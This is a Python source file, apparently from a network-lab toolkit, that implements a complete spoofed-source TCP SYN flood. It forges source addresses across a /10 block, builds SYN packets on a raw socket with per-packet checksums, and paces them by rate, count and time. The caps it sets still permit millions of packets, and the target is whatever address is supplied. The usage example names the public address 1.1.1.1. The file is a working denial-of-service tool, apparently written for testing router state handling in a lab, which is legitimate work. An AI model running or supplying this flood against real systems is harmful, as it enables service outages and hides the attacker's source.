"""A spoofed-source TCP SYN flood for lab namespaces, bounded in count and time.

Run inside a lab node (``python -m dfagent.lab.synflood --dst 1.1.1.1 --rate 20000
--seconds 30 --max 600000``). Every SYN has its own 4-tuple: sources walk a /10 (default
100.64.0.0/10, shared address space: nothing in a lab owns it), source ports walk with them,
so each one is a new conntrack entry on a stateful router on the way. Nobody answers the
servers' SYN-ACKs, so those entries stay unassured (SYN_SENT, then SYN_RECV) until they time
out — what a spoofed flood leaves behind.

Raw IPv4 socket with IP_HDRINCL (the kernel fills in the IP checksum and id); the TCP
checksum is computed per packet from a precomputed partial sum (a few integer operations).
Prints one JSON line: packets sent, seconds, send errors.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import socket
import struct
import time

MAX_PACKETS = 5_000_000  # hard cap whatever the caller asks
MAX_SECONDS = 600.0


def _fold(s: int) -> int:
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def _words(b: bytes) -> int:
    return sum(struct.unpack(f"!{len(b) // 2}H", b))


class SynFactory:
    """SYN packets to ``dst:dport`` from the i-th source of ``src_net``, i = 0, 1, …"""

    def __init__(self, dst: str, dport: int, src_net: str) -> None:
        net = ipaddress.IPv4Network(src_net)
        self.base = int(net.network_address)
        self.size = net.num_addresses
        self.dst = socket.inet_aton(dst)
        self.dport = dport
        # TCP header with sport, checksum 0 and seq left out of the constant sum
        # (data offset 6 words: an MSS option, as a real SYN carries)
        self.const = _fold(
            _words(self.dst)
            + 6
            + 24  # pseudo header: dst, protocol, TCP length
            + dport
            + 0x6002
            + 64240  # dport, offset/flags (SYN), window
            + 0x0204
            + 1460  # MSS option
        )

    def packet(self, i: int) -> bytes:
        src = self.base + (i % self.size)
        sport = 1024 + (i * 7919) % 64000
        seq = (i * 2654435761) & 0xFFFFFFFF
        s = self.const + (src >> 16) + (src & 0xFFFF) + sport + (seq >> 16) + (seq & 0xFFFF)
        csum = ~_fold(_fold(s)) & 0xFFFF
        ip = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 44, 0, 0x4000, 64, socket.IPPROTO_TCP, 0,
            struct.pack("!I", src), self.dst,
        )  # fmt: skip
        tcp = struct.pack(
            "!HHIIHHHHBBH", sport, self.dport, seq, 0, 0x6002, 64240, csum, 0, 2, 4, 1460
        )
        return ip + tcp


def flood(
    dst: str, dport: int, rate: float, seconds: float, limit: int, src_net: str
) -> dict[str, float | int]:
    seconds = min(seconds, MAX_SECONDS)
    limit = min(limit, MAX_PACKETS)
    fac = SynFactory(dst, dport, src_net)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    addr = (dst, 0)
    sent = errors = 0
    t0 = time.monotonic()
    end = t0 + seconds
    burst = 64
    while sent < limit:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - t0) * rate) if rate > 0 else sent + burst
        if sent >= due:
            time.sleep(min(0.002, end - now))
            continue
        for i in range(sent, min(due, sent + burst, limit)):
            try:
                s.sendto(fac.packet(i), addr)
            except OSError:  # ENOBUFS under load: counted, not retried
                errors += 1
            sent += 1
    s.close()
    return {"sent": sent, "errors": errors, "seconds": round(time.monotonic() - t0, 2)}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, default=80)
    ap.add_argument("--rate", type=float, default=10000.0, help="SYNs/s (0: as fast as it can)")
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--max", type=int, default=1_000_000, help="packets at most")
    ap.add_argument("--src-net", default="100.64.0.0/10")
    a = ap.parse_args()
    print(json.dumps(flood(a.dst, a.dport, a.rate, a.seconds, a.max, a.src_net)), flush=True)


if __name__ == "__main__":
    main()
